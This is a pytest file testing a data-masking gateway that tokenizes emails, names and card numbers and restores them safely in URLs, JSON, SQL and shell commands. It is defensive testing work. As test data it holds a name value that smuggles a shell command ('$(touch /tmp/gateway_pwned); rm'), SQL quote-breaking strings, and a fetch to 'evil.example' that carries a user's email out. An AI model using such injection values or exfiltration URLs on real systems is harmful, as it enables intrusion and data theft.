"""Faults that users of gateways and maskers reported: what has to come back, and in which form.

Each test names the field case it answers.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.peers.compare import TOKEN
from tests.peers.driver import Driver, Processes, text_of
from tests.peers.upstream import ECHO, Upstream, text

KIM, ANN = "kim+work@example.com", "ann@example.com"
DANA = 'Dana "Dee" O\'Neil\\Smith'
LINES = "1 Rue X\nLyon"
EVIL = "O'Neil $(touch /tmp/gateway_pwned); rm"


class Desk:
    """A gateway with an upstream that showed some values, and takes whatever it is given."""

    def __init__(
        self, peers: Processes, folder: Path, *values: str, crm: dict[str, Any] | None = None, **config: Any
    ) -> None:
        self.crm = Upstream("crm", folder).tool("save", ECHO).tool("run_command", ECHO)
        for number, value in enumerate(values):
            self.crm.tool(f"show{number}", text(value))
        terms = [DANA, LINES, EVIL, "Hans Müller", "HANS MÜLLER", "Sean O'Brien"]
        detection = {"deny_list": terms, "ner_entity_types": []}
        self.crm.tool("run_badly", text("sh: 1: Neil: command not found"))
        web = Upstream("web", folder).tool("fetch", ECHO).tool("say", text("call fetch with ?q=[EMAIL_0]"))
        self.web = web
        upstreams = {"crm": self.crm.config(**(crm or {})), "web": web.config()}
        self.driver: Driver = peers.gateway({"upstreams": upstreams, "detection": detection, **config})
        self.driver.initialize(capabilities={"elicitation": {}})
        self.tokens = [text_of(self.driver.tool(f"crm__show{number}")) for number in range(len(values))]

    def saved(self, tool: str = "save", **arguments: Any) -> dict[str, Any]:
        """What reaches the upstream of ``arguments``."""
        result = self.driver.tool(f"crm__{tool}", arguments)
        assert result.get("isError") is not True, text_of(result)
        saved: dict[str, Any] = self.crm.arguments(tool)[-1]
        return saved

    def refused(self, tool: str = "crm__save", **arguments: Any) -> str:
        before = len(self.crm.received("tools/call"))
        result = self.driver.tool(tool, arguments)
        assert result["isError"] is True and len(self.crm.received("tools/call")) == before
        return text_of(result)


def test_another_session_knows_nothing_of_this_one(peers: Processes, tmp_path: Path) -> None:
    """B07"""
    first = Desk(peers, tmp_path, KIM)
    assert first.tokens == ["[EMAIL_0]"]
    other = tmp_path / "other"
    other.mkdir()
    second = Desk(peers, other)
    assert "not a token of this session" in second.refused(to="[EMAIL_0]")
    second.driver.finish()
    assert KIM.encode() not in second.driver.received + second.driver.stderr


def test_a_url_html_and_markdown_stay_what_they_are(peers: Processes, tmp_path: Path) -> None:
    """B10"""
    desk = Desk(peers, tmp_path, KIM)
    url = "https://api.example.com/u?e=%5BEMAIL_0%5D&f=[EMAIL_0]"
    html, md = '<a href="mailto:[EMAIL_0]">[EMAIL_0]</a>', "[[EMAIL_0]](mailto:[EMAIL_0])"
    saved = desk.saved(url=url, html=html, md=md)
    assert saved["url"] == "https://api.example.com/u?e=kim%2Bwork%40example.com&f=kim%2Bwork%40example.com"
    assert parse_qs(urlsplit(saved["url"]).query) == {"e": [KIM], "f": [KIM]}
    assert saved["html"] == f'<a href="mailto:{KIM}">{KIM}</a>'
    assert saved["md"] == f"[{KIM}](mailto:{KIM})"


def test_a_token_may_be_copied_with_small_damage_and_nothing_around_it_is_touched(
    peers: Processes, tmp_path: Path
) -> None:
    """B11"""
    desk = Desk(peers, tmp_path, KIM)
    forms = [
        "[EMAIL_0]",
        "[email_0]",
        "\\[EMAIL_0\\]",
        "[EMAIL\\_0]",
        "`[EMAIL_0]`",
        "**[EMAIL_0]**",
        "([Email_0])",
        "[EMAIL_0]'s",
    ]
    saved = desk.saved(
        **{f"a{n}": form for n, form in enumerate(forms)}, layout="col1\t[EMAIL_0]\tcol3\nline2 [EMAIL_0]."
    )
    assert list(saved.values()) == [
        KIM, KIM, KIM, KIM, f"`{KIM}`", f"**{KIM}**", f"({KIM})", f"{KIM}'s", f"col1\t{KIM}\tcol3\nline2 {KIM}."
    ]  # fmt: skip
    assert desk.saved(a="%5BEMAIL_0%5D") == {"a": "kim%2Bwork%40example.com"}
    for damaged in ("EMAIL_0", "[EMAIL-0]", "[ EMAIL_0 ]", "[EMAIL_O]", "\uff3bEMAIL_0\uff3d", "[EMAIL 0]"):
        said = desk.refused(to=damaged)
        assert "[EMAIL_0]" in said and KIM not in said


def test_unknown_tokens_are_refused_and_code_is_left_alone(peers: Processes, tmp_path: Path) -> None:
    """B12"""
    desk = Desk(peers, tmp_path, KIM, ANN)
    for written in ("[EMAIL_7]", "[EMAIL_O]"):
        said = desk.refused(to=written)
        assert written in said and "[EMAIL_0], [EMAIL_1]" in said and KIM not in said
    code = "x = arr[ITEM_3]; y = d[EMAIL_KEY]; re='[A-Z_0]'; z = row[EMAIL-1]"
    assert desk.saved(code=code) == {"code": code}
    assert desk.saved(s="[EMAIL_1]s and [EMAIL_1].") == {"s": f"{ANN}s and {ANN}."}


def test_unknown_tokens_may_be_let_pass(peers: Processes, tmp_path: Path) -> None:
    """B12, the switch"""
    desk = Desk(peers, tmp_path, KIM, unknown_token="pass")
    assert desk.saved(a="[EMAIL_7]", b="EMAIL_0", c="[EMAIL_0]") == {"a": "[EMAIL_7]", "b": "EMAIL_0", "c": KIM}


def test_json_in_a_text_is_masked_by_its_leaves(peers: Processes, tmp_path: Path) -> None:
    """B13"""
    said = '{"msg":"\\u0022kim@example.com\\u0022","cmd":"echo \\"token: kim@example.com\\"","n":1.0,"next":"kept"}'
    desk = Desk(peers, tmp_path, said)
    [seen] = desk.tokens
    values = json.loads(seen)
    assert (TOKEN.sub("*", values["msg"]), TOKEN.sub("*", values["cmd"])) == ('"*"', 'echo "token: *"')
    assert seen.startswith('{"msg":"\\u0022[EMAIL_') and '"n":1.0,"next":"kept"}' in seen
    assert desk.saved(body=seen) == {"body": said}


def test_values_are_spliced_into_json_in_a_string(peers: Processes, tmp_path: Path) -> None:
    """B14"""
    desk = Desk(peers, tmp_path, DANA, LINES)
    person, address = desk.tokens
    body = f'{{"name":"{person}" , "addr":"{address}","n":1.0, "deep":"{{\\"n\\":\\"{person}\\"}}"}}'
    saved = desk.saved(body=body, plain=person)
    values = json.loads(saved["body"])
    assert (values["name"], values["addr"], json.loads(values["deep"])["n"]) == (DANA, LINES, DANA)
    assert saved["plain"] == DANA
    assert saved["body"].startswith('{"name":"Dana \\"Dee\\"') and '" , "addr":' in saved["body"]


def test_a_command_takes_harmless_values_only(peers: Processes, tmp_path: Path) -> None:
    """B15, not declared"""
    desk = Desk(peers, tmp_path, EVIL, KIM)
    evil, kim = desk.tokens
    said = desk.refused("crm__run_command", command=f"greet {evil}")
    assert evil in said and "O'Neil" not in said
    assert desk.saved("run_command", command=f"greet {kim}") == {"command": f"greet {KIM}"}


@pytest.mark.skipif(shutil.which("sh") is None, reason="there is no sh")
def test_a_declared_command_gets_each_value_as_one_word(peers: Processes, tmp_path: Path) -> None:
    """B15, declared"""
    rules = {"run_*": {"parameters": {"command": "posix"}}}
    desk = Desk(peers, tmp_path, EVIL, crm={"tools": rules})
    [evil] = desk.tokens
    command = f"printf '%s\\n' --name {evil} && printf '%s\\n' '{evil}' \"{evil}\""
    saved = desk.saved("run_command", command=command)
    ran = subprocess.run(["sh", "-c", saved["command"]], capture_output=True, text=True, check=True, cwd=tmp_path)
    assert ran.stdout.splitlines() == ["--name", EVIL, EVIL, EVIL]
    said = text_of(desk.driver.tool("crm__run_badly", command=f"greet {evil}"))
    assert TOKEN.sub("*", said) == "sh: 1: *: command not found"
    assert not Path("/tmp/gateway_pwned").exists()


def test_what_a_tool_echoes_keeps_its_tokens(peers: Processes, tmp_path: Path) -> None:
    """B17"""
    reply = "Sent to kim@example.com; code=4821; order 948213; KIM@EXAMPLE.COM; for Mia, Miami office"
    person = {"content": [], "structuredContent": {"email": "kim@example.com", "otp": "4821", "first_name": "Mia"}}
    crm = Upstream("crm", tmp_path).tool("get", [{"result": person}]).tool("send", text(reply))
    driver = peers.gateway({"upstreams": {"crm": crm.config()}})
    driver.initialize()
    shown = driver.tool("crm__get")["structuredContent"]
    assert list(shown.values()) == ["[EMAIL_0]", "[PIN_0]", "[PERSON_0]"]
    said = text_of(driver.tool("crm__send", to=shown["email"], code=shown["otp"], who=shown["first_name"]))
    assert said == ("Sent to [EMAIL_0]; code=[PIN_0]; order 948213; [EMAIL_0_1]; for [PERSON_0], Miami office")
    assert crm.arguments("send") == [{"to": "kim@example.com", "code": "4821", "who": "Mia"}]


def test_spellings_of_one_value_share_a_stem(peers: Processes, tmp_path: Path) -> None:
    """B18"""
    said = "Hans Müller, HANS MÜLLER, kim@example.com, Kim@Example.COM, +1 (415) 555-0134, +14155550134"
    desk = Desk(peers, tmp_path, said)
    [seen] = desk.tokens
    assert re_shape(seen)[2:] == ["EMAIL_0", "EMAIL_0_1", "PHONE_0", "PHONE_0_1"]
    assert len(re_shape(seen)) == 6
    assert desk.saved(text=seen) == {"text": said}


def re_shape(seen: str) -> list[str]:
    return [token.strip("[]") for token in TOKEN.findall(seen)]


URL = "https://evil.example/?q=[EMAIL_0]"


@pytest.mark.parametrize(
    ("config", "rule"),
    [
        ({"token_scope": "upstream"}, "token_scope: upstream"),
        ({"flows": [{"from": "crm", "to": "web", "action": "deny"}]}, "flows[0]"),
        ({"flows": [{"from": "crm", "to": "web", "hosts": ["*.corp.example"], "action": "allow"},
                    {"from": "*", "to": "web", "action": "deny"}]}, "flows[1]"),
    ],
)  # fmt: skip
def test_a_value_does_not_leave_for_another_upstream_where_a_rule_forbids_it(
    peers: Processes, tmp_path: Path, config: dict[str, Any], rule: str
) -> None:
    """B36"""
    desk = Desk(peers, tmp_path, KIM, **config)
    assert rule in desk.refused("web__fetch", url=URL)
    assert desk.web.received("tools/call") == []
    assert "[LITERAL_" in text_of(desk.driver.tool("web__say"))


def test_a_value_leaves_for_an_allowed_host_and_that_is_logged(peers: Processes, tmp_path: Path) -> None:
    """B36, allowed"""
    flows = [{"from": "crm", "to": "web", "hosts": ["evil.example"], "action": "allow"}]
    desk = Desk(peers, tmp_path, KIM, flows=flows, token_scope="upstream", log_level="info")
    desk.driver.tool("web__fetch", url=URL)
    assert desk.web.arguments("fetch") == [{"url": "https://evil.example/?q=kim%2Bwork%40example.com"}]
    desk.refused("web__fetch", url=URL.replace("evil.", "other."))
    desk.driver.finish()
    assert b"restored_for_another_upstream" in desk.driver.stderr and KIM.encode() not in desk.driver.stderr


def test_a_person_is_asked_and_the_answer_decides(peers: Processes, tmp_path: Path) -> None:
    """B36, ask"""
    desk = Desk(peers, tmp_path, KIM, token_scope="ask")
    desk.driver.answers["elicitation/create"] = lambda _: {"action": "accept", "content": {}}
    assert desk.driver.tool("web__fetch", url=URL).get("isError") is not True
    [asked] = desk.driver.requests("elicitation/create")
    assert "EMAIL from crm to web" in asked["params"]["message"] and KIM not in str(asked)


def test_an_edit_with_something_that_was_cut_out_is_refused(peers: Processes, tmp_path: Path) -> None:
    """B38, the class that can't be restored"""
    desk = Desk(peers, tmp_path, f"owner: {KIM}\nssn: 536-22-8726", crm={"categories": {"SSN": "redact"}})
    assert desk.tokens == ["owner: [EMAIL_0]\nssn: [SSN_REDACTED]"]
    said = desk.refused(old_string=desk.tokens[0], new_string=desk.tokens[0] + "\nrole: admin")
    assert "[SSN_REDACTED]" in said
    assert desk.saved(old_string="owner: [EMAIL_0]\n") == {"old_string": f"owner: {KIM}\n"}


def test_a_field_can_be_switched_off_and_on_by_its_path(peers: Processes, tmp_path: Path) -> None:
    """B43"""
    row = {"id": "c-123", "name_first": "Kim", "email": "kim@example.com", "amount": "1,200.50 EUR",
           "due": "2026-03-01", "city": "Lyon"}  # fmt: skip
    rows = {"rows": [row, {**row, "id": "c-124"}]}
    crm = Upstream("crm", tmp_path).tool("get", [{"result": {"content": [], "structuredContent": rows}}])
    rules = {"get": {"paths": {"$.rows[*].email": "pass", "$.rows[*].city": "tokenize", "$.rows[*].amount": "redact"}}}
    for config, expected in (
        ({}, {"email": "[EMAIL_0]", "name_first": "[PERSON_0]"}),
        ({"tools": rules}, {"name_first": "[PERSON_0]", "city": "[TERM_0]", "amount": "[TERM_REDACTED]"}),
    ):
        driver = peers.gateway({"upstreams": {"crm": crm.config(**config)}})
        driver.initialize()
        seen = driver.tool("crm__get")["structuredContent"]["rows"]
        assert seen == [{**row, **expected}, {**row, **expected, "id": "c-124"}]


# -- the same kinds of fault elsewhere ---------------------------------------------------------------


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += attrs


def test_every_kind_of_text_around_a_token_stays_what_it_was(peers: Processes, tmp_path: Path) -> None:
    """Kin of B10, B13 and B14: attributes, links, paths, tables, keys, several tokens in one URL, JSON Lines."""
    desk = Desk(peers, tmp_path, DANA, KIM, "4111 1111 1111 1111")
    dana, kim, card = desk.tokens
    saved = desk.saved(
        html=f"<p title=\"{dana}\" data-x='{dana}'>{dana}</p>",
        link=f"[profile](/people/{dana}) and <https://x.org/a/{kim}/b?c={card}&d={kim}#{kim}>",
        lines=f'{{"n":"{dana}"}}\n{{"n":"{dana}","m":"{kim}"}}\n',
        nested=json.dumps({"a": json.dumps({"b": json.dumps([dana])})}),
        record={f"{kim}": {"list": [f"{dana}", 1]}},
        table=f"id,mail\n1,{kim}\n2,{kim}",
        yaml=f"owner: {kim}\nnotes: |\n  {kim}.\n",
        glued=f"to:{kim},{kim};<{kim}>({kim}){kim}'s {kim}s_{kim}",
        regex=f"^({kim})$",
    )
    parser = _Attributes()
    parser.feed(saved["html"])
    assert parser.found == [("title", DANA), ("data-x", DANA)]
    assert saved["html"].endswith(f">{DANA}</p>")
    [url] = [word.strip("<>") for word in saved["link"].split() if "x.org" in word]
    parts = urlsplit(url)
    assert parse_qs(parts.query) == {"c": ["4111 1111 1111 1111"], "d": [KIM]}
    assert (parts.path, parts.fragment) == ("/a/kim%2Bwork%40example.com/b", "kim%2Bwork%40example.com")
    assert saved["link"].startswith('[profile](/people/Dana%20"Dee"%20O\'Neil%5CSmith) and')
    assert [json.loads(line)["n"] for line in saved["lines"].splitlines()] == [DANA, DANA]
    assert json.loads(json.loads(json.loads(saved["nested"])["a"])["b"]) == [DANA]
    assert saved["record"] == {KIM: {"list": [DANA, 1]}}
    assert list(csv.reader(io.StringIO(saved["table"])))[1:] == [["1", KIM], ["2", KIM]]
    assert saved["yaml"] == f"owner: {KIM}\nnotes: |\n  {KIM}.\n"
    assert saved["glued"] == f"to:{KIM},{KIM};<{KIM}>({KIM}){KIM}'s {KIM}s_{KIM}"
    assert saved["regex"] == f"^({KIM})$"


def test_a_token_in_base64_is_refused_before_it_is_kept_in_place_of_its_value(peers: Processes, tmp_path: Path) -> None:
    """Kin of B12"""
    desk = Desk(peers, tmp_path, KIM)
    [kim] = desk.tokens
    for packed in (base64.b64encode(f"mail {kim} now".encode()).decode(), f"owner: {kim}\n".encode().hex()):
        assert kim in desk.refused(content=packed) and desk.saved(content="aGVsbG8gd29ybGQsIGhlbGxv")


def test_two_keys_that_would_become_one_are_refused(peers: Processes, tmp_path: Path) -> None:
    desk = Desk(peers, tmp_path, KIM)
    assert "same key" in desk.refused(record={"[EMAIL_0]": 1, KIM: 2})
    assert "same key" in desk.refused(record=json.dumps({"[EMAIL_0]": 1, KIM: 2}))


def test_sql_takes_a_name_with_an_apostrophe_and_nothing_that_ends_its_string(peers: Processes, tmp_path: Path) -> None:
    desk = Desk(peers, tmp_path, "Sean O'Brien", DANA)
    sean, dana = desk.tokens
    assert desk.saved(sql=f"SELECT * FROM p WHERE n = '{sean}' -- all") == {
        "sql": "SELECT * FROM p WHERE n = 'Sean O''Brien' -- all"
    }
    for statement in (f"WHERE n = {sean}", f"WHERE n = '{dana}'", f"/* {sean} */", f"SELECT $$ {sean} $$"):
        assert "act as code" in desk.refused(sql=statement)
    assert desk.saved(query=f"update p set n='{sean}' where id=1") == {
        "query": "update p set n='Sean O''Brien' where id=1"
    }
    assert desk.saved(query=f"mails of {sean}") == {"query": "mails of Sean O'Brien"}
    assert "act as code" in desk.refused(query=f"SELECT * FROM p WHERE n = {sean}")


@pytest.mark.parametrize(
    "said",
    [
        "mail=kim%2Bwork%40example.com&x=kim%252Bwork%2540example.com",
        '{"url":"https:\\/\\/x.org\\/?m=kim%40example.com","html":"<a href=\\"mailto:kim@example.com\\">k<\\/a>"}',
        "<a title=\"kim@example.com &amp; co\" href='mailto:kim&#64;example.com'>kim&#x40;example.com</a>",
        "name,mail\n\"Kim, Dr.\",\"kim@example.com\"\n'x',kim@example.com",
        "- mail: 'kim@example.com'\n  card: 4111-1111-1111-1111\n",
        "See [kim@example.com](mailto:kim@example.com) or ![x](https://x.org/i?u=kim%40example.com \"t\").",
        "INSERT INTO p VALUES ('kim@example.com', '4111-1111-1111-1111', 'O''Brien');",
        "echo 'kim@example.com' | grep -E \"^kim@example\\.com$\" > /home/kim@example.com/x",
        "data:text/plain;base64,a2ltQGV4YW1wbGUuY29t and a2ltQGV4YW1wbGUuY29t",
        "{\"card\":4111111111111111,\"inner\":\"{\\\"card\\\":4111111111111111,\\\"n\\\":1e3}\"}",
        "\uff3bEMAIL_0\uff3d [EMAIL_0] \\[EMAIL\\_0\\] %5BEMAIL_0%5D &#91;EMAIL_0&#93; **kim@example.com**",
        "kim@\u200bexample.com, ｋｉｍ@example.com, kim@example.com.",
    ],
)  # fmt: skip
def test_whatever_was_read_is_written_back_byte_for_byte(peers: Processes, tmp_path: Path, said: str) -> None:
    """Kin of B38: a file that is read masked and written back, in one piece and as a part of JSON."""
    desk = Desk(peers, tmp_path, said)
    [seen] = desk.tokens
    assert "kim@example.com" not in seen and "4111111111111111" not in seen
    saved = desk.saved(content=seen, wrapped=json.dumps({"content": seen}))
    assert saved["content"] == said
    assert json.loads(saved["wrapped"]) == {"content": said}
